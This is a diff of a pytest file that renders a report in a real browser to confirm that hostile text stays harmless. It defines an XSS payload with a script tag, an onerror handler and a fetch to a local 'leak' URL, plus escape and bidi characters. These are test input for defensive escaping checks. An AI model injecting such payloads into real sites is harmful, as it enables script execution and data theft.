@@ -1,28 +1,18 @@
 """The report in a real browser: everything visible with network and scripts off; hostile text harmless with scripts on."""
 
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Browser, Page, sync_playwright
+from playwright.sync_api import Browser, Page
 
 from runbook.judge import diagnose
 from runbook.lab import Lab
 from runbook.model import Exchange, Message, Place
 from runbook.report import render_html
-from tests.real.programs import need
 from tests.report.samples import collected, evidence_of
 
 SECTIONS = ["Cause", "Fix", "What was seen", "The four steps", "Requests", "htpasswd", "Not tested"]
 HOSTILE = '"><script>window.owned=1;fetch("http://127.0.0.1:9/leak")</script><img src=x onerror="window.owned=2">\x1b[31m\u202e'
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        started = playwright.chromium.launch(executable_path=need("chromium"), args=["--no-sandbox"])
-        yield started
-        started.close()
 
 
 @pytest.fixture(scope="module")
